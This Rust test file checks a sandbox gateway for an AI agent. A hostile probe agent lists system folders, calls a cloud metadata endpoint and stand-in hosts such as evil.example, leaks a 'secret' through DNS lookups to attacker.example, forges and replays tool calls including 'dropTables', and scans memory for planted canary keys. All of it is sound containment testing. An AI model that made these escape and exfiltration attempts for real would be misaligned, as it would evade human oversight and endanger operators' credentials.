//! An agent gone bad, in a real sandbox with the rules of the release: what it can see, reach and fake.

use gate_tests::{Postgres, Probe, ProgramSetup, Setup, TestGate, descendants, probe, request, reversed};
use serde_json::{Value, json};
use std::collections::BTreeSet;

const API_KEY: &str = "sk-ant-api03-Canary0fTheProviderKey0123456789abcdefghijklmnopqrstuvwxyz";
const AUTH_SECRET: &str = "canary-of-the-auth-secret-7d1f0c9be2a84653";
const CALLER_SECRET: &str = "c4a9e17d03b85f26c9d24e8f7a61305bb27f80d9e3164ca5d80e7395f1c2ab46";

async fn hostile() -> TestGate {
    TestGate::start(Setup { agent: Some(probe()), ..Setup::default() }).await
}

fn text<'a>(value: &'a Value, name: &str) -> &'a str {
    value[name].as_str().unwrap_or("")
}

#[tokio::test(flavor = "multi_thread")]
async fn it_sees_nothing_of_the_gateway() {
    let gate = hostile().await;
    let agent = Probe::new(gate.person().await).await;
    let folders = ["/", "/proc", "/etc", "/home", "/opt", "/lib", "/work", "/root", "/var", "/usr", "/sys", "/dev"];
    let mut orders = vec![json!({"do": "environment"})];
    orders.extend(folders.iter().map(|path| json!({"do": "list", "path": path})));
    orders.extend(
        ["/x", "/etc/passwd", "/opt/agent/agent", "/lib/x", "/proc/sys/kernel/hostname"]
            .map(|path| json!({"do": "write", "path": path})),
    );
    orders.push(json!({"do": "write", "path": "mine"}));
    let seen = agent.tell(&gate, Value::from(orders)).await;

    let names: BTreeSet<&str> = seen[0].as_object().unwrap().keys().map(String::as_str).collect();
    let given = BTreeSet::from([
        "ANTHROPIC_API_KEY",
        "ANTHROPIC_BASE_URL",
        "CLAUDE_CODE_DISABLE_ATTACHMENTS",
        "CLAUDE_CODE_DISABLE_AUTO_MEMORY",
        "CLAUDE_CODE_DISABLE_CLAUDE_MDS",
        "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC",
        "CLAUDE_CODE_MAX_OUTPUT_TOKENS",
        "CLAUDE_CODE_MAX_RETRIES",
        "CLAUDE_CODE_SKIP_PROMPT_HISTORY",
        "CLAUDE_CONFIG_DIR",
        "DISABLE_AUTOUPDATER",
        "DISABLE_COMPACT",
        "DISABLE_UPDATES",
        "ENABLE_TOOL_SEARCH",
        "HOME",
        "LANG",
        "MCP_TOOL_TIMEOUT",
        "NODE_EXTRA_CA_CERTS",
        "SSL_CERT_FILE",
        "TMPDIR",
    ]);
    assert_eq!(names, given, "the environment is what was given, and nothing of the gateway's");
    assert!(text(&seen[0], "ANTHROPIC_API_KEY").contains("placeholder"));

    let listed: Vec<Vec<&str>> = seen[1..=folders.len()]
        .iter()
        .map(|names| names.as_array().map(|names| names.iter().map(|name| name.as_str().unwrap()).collect()).unwrap_or_default())
        .collect();
    assert_eq!(listed[0], ["agent", "dev", "etc", "lib", "lib64", "opt", "proc", "tmp", "work"], "an allow-list of folders");
    let processes: Vec<&str> = listed[1].iter().filter(|name| name.parse::<u32>().is_ok()).copied().collect();
    assert!(processes.len() <= 2, "only its own processes: {processes:?}");
    for (folder, names) in folders.iter().zip(&listed) {
        let empty = ["/work", "/home", "/root", "/var", "/usr", "/sys"].contains(folder);
        assert!(!empty || names.is_empty(), "{folder}: {names:?}");
    }
    let written = &seen[1 + folders.len()..];
    assert!(written[..5].iter().all(|result| result["error"].is_string()), "{written:?}");
    assert_eq!(written[5], "written");
    gate.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn it_reaches_the_model_the_tools_and_nothing_else() {
    let gate = hostile().await;
    let agent = Probe::new(gate.person().await).await;
    let own_key = json!([["x-api-key", "sk-ant-api03-the-attacker-s-own"], ["content-type", "application/json"]]);
    let orders = json!([
        {"do": "http", "to": "169.254.169.254:80", "path": "/latest/meta-data/"},
        {"do": "http", "to": "10.0.0.1:80", "host": "evil.example"},
        {"do": "http", "to": "198.18.0.10:80", "host": "evil.example"},
        {"do": "http", "to": "[2001:db8::1]:80", "host": "evil.example"},
        {"do": "name", "name": "c2VjcmV0.attacker.example", "kind": 16},
        {"do": "name", "name": "c2VjcmV0.attacker.example", "kind": 1, "server": "8.8.8.8:53"},
        {"do": "name", "name": "api.anthropic.com", "kind": 1, "server": "1.1.1.1:53"},
        {"do": "resolve", "name": "attacker.example"},
        {"do": "resolve", "name": "api.anthropic.com"},
        {"do": "tls", "to": "160.79.104.10:443", "sni": "api.anthropic.com", "method": "POST", "path": "/v1/files", "host": "api.anthropic.com", "headers": own_key, "body": "{}"},
        {"do": "tls", "to": "160.79.104.10:443", "sni": "api.anthropic.com", "host": "evil.example"},
        {"do": "tls", "to": "160.79.104.10:443", "sni": "api.anthropic.com", "host": "tools.hexward.internal"},
        {"do": "tls", "to": "160.79.104.10:443"},
        {"do": "tls", "to": "160.79.104.10:443", "sni": "evil.example"},
        {"do": "tls", "to": "160.79.104.10:443", "sni": "model.hexward.internal"},
        {"do": "http", "to": "198.18.0.10:443", "host": "model.hexward.internal"},
        {"do": "connect", "to": "198.18.0.10:22"},
        {"do": "connect", "to": "127.0.0.1:7410"},
        {"do": "udp", "to": "8.8.8.8:123"},
    ]);
    let seen = agent.tell(&gate, orders).await;
    for refused in &seen[0..4] {
        assert_eq!(
            (&refused["status"], text(&refused["headers"], "x-hexward-denial")),
            (&json!(403), "egress.host"),
            "{refused}"
        );
    }
    for unknown in &seen[4..6] {
        assert_eq!((&unknown["code"], &unknown["answers"]), (&json!(3), &json!(0)), "NXDOMAIN: {unknown}");
    }
    assert_eq!((&seen[6]["code"], &seen[6]["answers"]), (&json!(0), &json!(1)), "whatever server is asked: {}", seen[6]);
    assert!(seen[7]["error"].is_string(), "{}", seen[7]);
    assert_eq!(seen[8]["addresses"], json!(["198.18.0.12"]));
    assert_eq!((&seen[9]["status"], text(&seen[9]["headers"], "x-hexward-denial")), (&json!(403), "model.path"), "{}", seen[9]);
    for wrong_host in &seen[10..12] {
        assert_eq!(
            (&wrong_host["status"], text(&wrong_host["headers"], "x-hexward-denial")),
            (&json!(421), "egress.host"),
            "{wrong_host}"
        );
    }
    for wrong_name in &seen[12..15] {
        assert!(
            text(wrong_name, "error").contains("UnrecognizedName") || text(wrong_name, "error").contains("UnrecognisedName"),
            "{wrong_name}"
        );
        assert!(wrong_name["ms"].as_u64().unwrap() < 1000, "refused at once: {wrong_name}");
    }
    assert!(seen[15]["status"].is_null(), "no plain HTTP on the port of TLS: {}", seen[15]);
    for refused in &seen[16..18] {
        assert_eq!((text(refused, "kind"), refused["ms"].as_u64().unwrap() < 1000), ("ConnectionRefused", true), "{refused}");
    }
    assert!(seen[18]["error"].is_string(), "{}", seen[18]);

    were_recorded(&gate).await;
    gate.finish().await;
}

/// What was wanted stands in the audit log.
async fn were_recorded(gate: &TestGate) {
    let recorded = gate.database.denials().await;
    for wanted in [
        "egress.host 169.254.169.254",
        "egress.host evil.example",
        "egress.host c2VjcmV0.attacker.example",
        "model.path POST /v1/files",
        "egress.tls evil.example",
        "egress.tls (no server name)",
        "egress.host evil.example over TLS for api.anthropic.com",
    ] {
        assert!(recorded.iter().any(|denial| denial.starts_with(wanted)), "{wanted} is not in {recorded:?}");
    }
    assert!(
        gate.fake.requests().iter().all(|exchange| exchange.path.starts_with("/v1/messages")),
        "nothing else left for the provider"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn after_the_end_of_a_run_every_door_is_closed() {
    let gate = hostile().await;
    let agent = Probe::new(gate.person().await).await;
    let late = |mut order: Value| {
        order["late"] = json!(true);
        order
    };
    let orders = json!([
        late(json!({"do": "ask", "text": "Hello"})),
        late(json!({"do": "tool", "name": "getCurrentUser", "arguments": {}, "id": "toolu_1"})),
        late(json!({"do": "http", "to": "169.254.169.254:80"})),
    ]);
    agent.tell(&gate, orders).await;
    // The late orders are carried out while the agent is at rest; the next message brings their report.
    let before = gate.fake.requests().len();
    tokio::time::sleep(std::time::Duration::from_millis(2000)).await;
    assert_eq!(gate.fake.requests().len(), before, "nothing reached the provider");
    let seen = agent.tell(&gate, json!([])).await;
    assert_eq!(gate.sandboxes_started(), 1, "it was the same agent");
    assert_eq!(
        (&seen[0]["status"], text(&seen[0]["error"], "message")),
        (&json!(403), "No request is being worked on, so nothing may be reached. Send a message first.")
    );
    assert_eq!(text(&seen[1]["error"], "type"), "permission_error", "{}", seen[1]);
    assert_eq!(seen[2]["status"], 403);
    assert!(gate.database.tool_calls().await.is_empty());
    gate.finish().await;
}

/// The id and arguments of the tool call in an answer of the model.
fn emitted<'a>(answer: &'a Value, tool: &str) -> &'a Value {
    let content = answer["content"].as_array().unwrap_or_else(|| panic!("{answer}"));
    let named = |block: &&Value| block["type"] == "tool_use" && text(block, "name").ends_with(tool);
    content.iter().find(named).unwrap_or_else(|| panic!("no {tool} in {answer}"))
}

fn reason(answer: &Value) -> &str {
    text(&answer["result"]["_meta"], "hexward/reason")
}

const ASKS: &str = r#"
name = "asks"
about = "Asks for exactly one call."
[[reply]]
steps = [{ tool_use = { name = "getCurrentUser", input = {} } }]
"#;

#[tokio::test(flavor = "multi_thread")]
async fn a_call_the_model_did_not_ask_for_is_not_made() {
    let setup = Setup { agent: Some(probe()), scenarios: vec![("asks", ASKS.to_owned())], ..Setup::default() };
    let gate = TestGate::start(setup).await;
    let (ada, eve) = (gate.person().await, gate.person().await);
    let (one, two) = (Probe::new(ada.clone()).await, Probe::new(eve.clone()).await);
    let add = |user: &str| json!({"coords": {"userId": user, "groupId": 0, "path": [2]}, "title": "Forged"});
    let forged = one
        .tell(
            &gate,
            json!([
                {"do": "tool", "name": "addItem", "arguments": add(&ada.user)},
                {"do": "tool", "name": "addItem", "arguments": add(&ada.user), "id": "toolu_invented"},
                {"do": "tool", "name": "getCurrentUser", "arguments": {}},
                {"do": "tool", "name": "dropTables", "arguments": {}, "id": "toolu_invented"},
                {"do": "tool", "name": "addItem", "arguments": add(&ada.user), "id": ""},
            ]),
        )
        .await;
    let reasons: Vec<&str> = forged.iter().map(reason).collect();
    assert_eq!(reasons[..3], ["tool.not_emitted"; 3], "{forged:?}");
    assert!(forged[3]["result"]["isError"] == true || forged[3]["error"].is_object(), "{}", forged[3]);
    assert_ne!(forged[4]["result"]["isError"], Value::Bool(false), "{}", forged[4]);

    // What the model did ask for is made once, by whom it was asked, with the arguments it said.
    let asked = one.tell(&gate, json!([{"do": "ask", "text": "[[scenario:asks]] Who am I?"}])).await;
    let id = text(emitted(&asked[0], "getCurrentUser"), "id").to_owned();
    let stolen = two.tell(&gate, json!([{"do": "tool", "name": "getCurrentUser", "arguments": {}, "id": id}])).await;
    assert_eq!(reason(&stolen[0]), "tool.not_emitted", "another sandbox can't use it: {}", stolen[0]);
    gate.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_emitted_call_is_good_for_one_call_of_its_own_run() {
    let setup = Setup { agent: Some(probe()), scenarios: vec![("asks", ASKS.to_owned())], ..Setup::default() };
    let gate = TestGate::start(setup).await;
    let ada = gate.person().await;
    let one = Probe::new(ada.clone()).await;
    let seen = one
        .tell(
            &gate,
            json!([
                {"do": "ask", "text": "[[scenario:asks]] Who am I?"},
                {"do": "tool", "name": "getCurrentUser", "arguments": {"extra": 1}, "id": "LAST"},
                {"do": "tool", "name": "deleteItem", "arguments": {}, "id": "LAST"},
                {"do": "tool", "name": "getCurrentUser", "arguments": {}, "id": "LAST"},
                {"do": "tool", "name": "getCurrentUser", "arguments": {}, "id": "LAST"},
            ]),
        )
        .await;
    assert_eq!((reason(&seen[1]), reason(&seen[2])), ("tool.not_emitted", "tool.not_emitted"), "{seen:?}");
    let blocks = &seen[3]["result"]["content"];
    let user: Value = serde_json::from_str(blocks[1]["text"].as_str().unwrap()).unwrap();
    assert_eq!((&seen[3]["result"]["isError"], &user["id"]), (&json!(false), &json!(ada.user)), "{seen:?}");
    assert!(blocks[0]["text"].as_str().unwrap().contains("is data"), "the model is told what it is: {blocks}");
    assert_eq!(seen[4], seen[3], "it was made already, so there is what came of it");
    let next = one.tell(&gate, json!([{"do": "tool", "name": "getCurrentUser", "arguments": {}, "id": "LAST"}])).await;
    assert_eq!(reason(&next[0]), "tool.not_emitted", "and over with its run: {}", next[0]);
    assert_eq!(gate.database.tool_calls().await, [("getCurrentUser".to_owned(), "done".to_owned())]);
    gate.finish().await;
}

/// Looks through the memory of all that runs below a gateway. Only root may; elsewhere the probe's own search has to do.
fn holds_none_of(gateway: u32, secrets: &[&str]) -> bool {
    let mut looked_at = 0;
    for process in descendants(gateway) {
        for region in process.memory() {
            looked_at += region.len();
            if secrets.iter().any(|secret| memchr::memmem::find(&region, secret.as_bytes()).is_some()) {
                return false;
            }
        }
    }
    assert!(looked_at > 1_000_000 || !is_root(), "there was memory to look at: {looked_at}");
    true
}

fn is_root() -> bool {
    use std::os::unix::fs::MetadataExt;
    std::fs::metadata("/proc/self").unwrap().uid() == 0
}

/// The real agent, at work and at rest, with the same secrets planted.
#[tokio::test(flavor = "multi_thread")]
async fn the_real_agents_memory_holds_no_secret() {
    let folder = tempfile::tempdir().unwrap();
    let fake = fake::Fake::start(fake::FakeConfig::for_tests(API_KEY)).await.unwrap();
    let setup = ProgramSetup::new(folder.path(), &fake.url(), API_KEY)
        .with("AUTH_SECRET", AUTH_SECRET)
        .with("INTERNAL_PROXY_SECRET", CALLER_SECRET);
    let mut program = setup.start();
    let person = program.person().await;
    let conversation = person.conversation().await;
    let events = person.run(&conversation, "Create a tile called Aurora to the north-east", true).await;
    assert_eq!(events.last().unwrap()["outcome"], "finished", "{events:?}");
    assert!(
        !is_root() || !holds_none_of(program.pid(), &["placeholder-the-connection-is-the-identity"]),
        "the search finds what is there"
    );
    assert!(holds_none_of(program.pid(), &[API_KEY, AUTH_SECRET, CALLER_SECRET]));
    program.signal("TERM");
    assert!(program.wait().success());
}

/// Real-looking secrets in the environment of a gateway of its own, and a probe that reads every byte there is.
#[tokio::test(flavor = "multi_thread")]
async fn planted_secrets_are_nowhere_to_be_found() {
    let folder = tempfile::tempdir().unwrap();
    let fake = fake::Fake::start(fake::FakeConfig::for_tests(API_KEY)).await.unwrap();
    let database = Postgres::shared().fresh_database();
    let password = database.split(['@', ':']).nth(2).unwrap().to_owned();
    let setup = ProgramSetup::new(folder.path(), &fake.url(), API_KEY)
        .with("DATABASE_URL", &database)
        .with("AUTH_SECRET", AUTH_SECRET)
        .with("INTERNAL_PROXY_SECRET", CALLER_SECRET)
        .with("AWS_SECRET_ACCESS_KEY", "canary-of-somebody-else-s-secret-91c5");
    let setup = ProgramSetup {
        config: setup.config.replace(&gate_tests::agent().display().to_string(), &probe().display().to_string()),
        ..setup
    };
    let mut program = setup.start();
    let person = program.person().await;
    let secrets = [API_KEY, AUTH_SECRET, CALLER_SECRET, &password, "canary-of-somebody-else-s-secret-91c5"];
    let needles: Vec<String> = secrets.iter().map(|secret| reversed(secret)).chain([reversed("HOME=/agent")]).collect();
    let conversation = person.conversation().await;
    let own = json!([["x-api-key", "sk-ant-of-the-probe"], ["content-type", "application/json"]]);
    let orders = json!({"report": "scan", "orders": [
        {"do": "search", "needles": needles}, {"do": "environment"},
        // What each kind of listener sends, answers and refusals.
        {"do": "http", "to": "model.hexward.internal:80", "path": "/v1/models", "headers": own},
        {"do": "ask", "text": "Create a tile called Aurora to the north-east"},
        {"do": "tool", "method": "tools/list"}, {"do": "tool", "name": "deleteItem", "arguments": {}, "id": "toolu_none"},
        {"do": "http", "to": "169.254.169.254:80", "path": "/", "headers": own},
        {"do": "tls", "to": "160.79.104.10:443", "sni": "api.anthropic.com", "host": "api.anthropic.com", "method": "POST",
         "path": "/v1/files", "headers": own, "body": "{}"},
        {"do": "tls", "to": "160.79.104.10:443", "sni": "evil.example"},
        {"do": "name", "name": "api.anthropic.com", "kind": 1}, {"do": "name", "name": "evil.example", "kind": 16},
    ]});
    let events = person.run(&conversation, &orders.to_string(), true).await;
    assert_eq!(events.last().unwrap()["outcome"], "finished", "{events:?}");

    let report = fake.requests().into_iter().find_map(|exchange| {
        let body: Value = serde_json::from_slice(&exchange.body).ok()?;
        let text = body["messages"][0]["content"].as_str()?.strip_prefix("scan")?.to_owned();
        serde_json::from_str::<Value>(&text).ok()
    });
    let report = report.expect("the probe's report");
    let hits: Vec<&Value> = report[0]["hits"].as_array().unwrap().iter().filter(|hit| hit["needle"] != secrets.len()).collect();
    assert!(hits.is_empty(), "{hits:?}");
    assert!(
        report[0]["hits"].as_array().unwrap().iter().any(|hit| text(hit, "path").ends_with("/environ")),
        "the search finds what is there: {report}"
    );
    assert!(report[0]["files"].as_u64().unwrap() > 50 && report[0]["bytes"].as_u64().unwrap() > 1_000_000, "{report}");
    let answers = report.as_array().unwrap();
    assert_eq!(answers.len(), 11);
    assert!(answers[3]["status"] == 200 && answers[7]["status"] == 403, "the listeners were heard: {report}");
    let shown = Value::from(answers[1..].to_vec()).to_string() + &format!("{events:?}");
    // From outside: no process of the sandbox has them in its environment or on its command line.
    let processes = descendants(program.pid());
    assert!(processes.len() >= 2, "the agent at rest runs: {processes:?}");
    let mut outside = Vec::new();
    for process in processes {
        for file in ["environ", "cmdline"] {
            outside.extend(std::fs::read(format!("/proc/{}/{file}", process.pid)).unwrap_or_default());
        }
    }
    assert!(holds_none_of(program.pid(), &secrets), "no memory of a sandbox's processes holds them");
    let outside = String::from_utf8_lossy(&outside).into_owned();
    assert!(outside.contains("hexward-jail") && outside.contains("CLAUDE_CODE_"), "{outside}");
    let log = program.log();
    for secret in secrets {
        assert!(!shown.contains(secret) && !outside.contains(secret) && !log.contains(secret), "{secret}");
    }
    let page = gate_tests::exchange(program.address, request("GET", "/api/session", &[], "")).await;
    assert!(secrets.iter().all(|secret| !page.text().contains(secret)));
    assert_eq!(page.json()["writes_default"], false, "nobody but a demo presets changes");
    program.signal("TERM");
    assert!(program.wait().success());
    assert!(secrets.iter().all(|secret| !program.log().contains(secret)));
}
